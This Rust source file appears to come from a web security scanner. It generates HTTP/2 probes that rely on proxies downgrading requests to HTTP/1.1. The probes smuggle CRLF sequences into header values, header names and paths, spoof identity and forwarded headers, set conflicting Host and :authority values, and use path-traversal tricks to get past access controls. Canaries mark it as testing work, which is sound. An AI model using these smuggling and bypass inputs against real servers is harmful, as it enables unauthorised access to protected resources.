//! What is played over HTTP/2. Proxies write these requests anew as HTTP/1.1, so that what was data may become a line.

use super::attacks::{Kind, Play, Stage, forwarded};
use super::client::{Request, Version};
use super::message::Field;

fn field(name: &str, value: &str) -> Field {
    (name.to_owned(), value.to_owned())
}

/// A request of the other version, as this one writes it.
pub fn request(of: &Request) -> Request {
    let mut request = of.clone();
    request.version = Version::Http2;
    for (name, _) in &mut request.fields {
        name.make_ascii_lowercase();
    }
    request
}

/// Plays about headers, where the backend is reached.
pub fn on_stage(stage: &Stage, identity: &[String], canary: &str) -> Vec<Play> {
    let play = |kind: Kind, sent: String, canary: &str, change: &dyn Fn(&mut Request)| {
        let mut request = request(&stage.request);
        change(&mut request);
        Play {
            kind,
            sent: format!("over HTTP/2: {sent}"),
            place: stage.name,
            request,
            canary: canary.to_owned(),
            openly: None,
        }
    };
    let with = |kind: Kind, name: &str, value: &str, canary: &str| {
        let sent = format!("{name}: {value}").escape_default().to_string();
        play(kind, sent, canary, &|request| request.fields.push(field(name, value)))
    };
    let mut plays = Vec::new();
    for name in identity {
        let (small, kind) = (name.to_ascii_lowercase(), || Kind::Identity(name.clone()));
        plays.push(with(kind(), &small, canary, canary));
        let alike = small.replace('-', "_");
        if alike != small {
            plays.push(with(Kind::LookAlike(name.replace('-', "_")), &alike, canary, canary));
        }
        let trailer = Kind::Trailer(name.clone());
        plays.push(play(
            trailer,
            format!("the trailer {small}: {canary}"),
            canary,
            &|request| {
                request.method = "POST";
                request.trailers.push(field(&small, canary));
            },
        ));
    }
    if let Some(name) = identity.first() {
        let small = name.to_ascii_lowercase();
        let sent = format!("the trailer {small}: {canary}, behind a body with its length");
        plays.push(play(Kind::Trailer(name.clone()), sent, canary, &|request| {
            request.method = "POST";
            request.fields.push(field("content-length", "1"));
            request.trailers.push(field(&small, canary));
        }));
        let kind = || Kind::Identity(name.clone());
        plays.push(with(kind(), name, canary, canary));
        plays.push(with(kind(), "x-dw", &format!("a\r\n{name}: {canary}"), canary));
        plays.push(with(kind(), &format!("x-dw: a\r\n{name}"), canary, canary));
        let target = format!("{} HTTP/1.1\r\n{name}: {canary}\r\nX-Dw: a", stage.request.target);
        let sent = format!("the path {}", target.escape_default());
        plays.push(play(kind(), sent, canary, &|request| {
            request.target.clone_from(&target)
        }));
    }
    for (name, value) in forwarded(canary) {
        let kind = Kind::Forwarded(name.to_owned());
        plays.push(with(kind, &name.to_ascii_lowercase(), &value, &value));
    }
    let shown = stage.seen.fields.iter();
    let mut shown =
        shown.filter(|(name, value)| identity.iter().any(|own| own.eq_ignore_ascii_case(name)) && !value.is_empty());
    if let Some((name, value)) = shown.next() {
        plays.push(with(Kind::HopByHop(name.clone()), "connection", name, value));
    }
    let elsewhere = format!("{canary}.example");
    let mut openly = request(&stage.request);
    openly.authority = Some(elsewhere.clone());
    plays.push(Play {
        openly: Some(openly),
        ..with(Kind::Host, "host", &elsewhere, canary)
    });
    let kind = Kind::Forwarded("X-Forwarded-Proto".to_owned());
    plays.push(play(kind, format!(":scheme {canary}"), canary, &|request| {
        request.scheme = Some(canary.to_owned());
    }));
    plays
}

/// Plays without credentials against a target that was refused so.
pub fn against(target: &str, public: Option<&str>, host: &str, secure: bool, canary: &str) -> Vec<Play> {
    let scheme = if secure { "https" } else { "http" };
    let bare = target.trim_start_matches('/');
    let play = |kind: Kind, sent: String, request: Request| Play {
        kind,
        sent: format!("over HTTP/2: {sent}"),
        place: "without credentials",
        request: Request {
            method: "GET",
            version: Version::Http2,
            ..request
        },
        canary: canary.to_owned(),
        openly: None,
    };
    let mut plays = Vec::new();
    let elsewhere = format!("{canary}.example");
    for (authority, said) in [(&elsewhere, host), (&host.to_owned(), &elsewhere)] {
        let request = Request {
            target: target.to_owned(),
            authority: Some(authority.clone()),
            fields: vec![field("host", said)],
            ..Request::default()
        };
        let sent = format!(":authority {authority} and host: {said}");
        plays.push(play(Kind::TalkPast(":authority".to_owned()), sent, request));
    }
    let mut paths = vec![
        bare.to_owned(),
        format!("/{target}"),
        format!("/./{bare}"),
        format!("{target}#x"),
        format!("{scheme}://{host}{target}"),
        format!("http://{elsewhere}{target}"),
    ];
    if let Some(public) = public {
        let public = public.trim_end_matches('/');
        let up = "/..".repeat(public.matches('/').count().max(1));
        paths.push(format!("{public}{up}{target}"));
        paths.push(format!("{public}#{up}{target}"));
        paths.push(format!("{public} HTTP/1.1\r\nX-Dw: a\r\n\r\nGET {target}"));
    }
    for path in paths {
        let request = Request {
            target: path.clone(),
            ..Request::default()
        };
        plays.push(play(Kind::Path, format!("the path {}", path.escape_default()), request));
    }
    plays
}
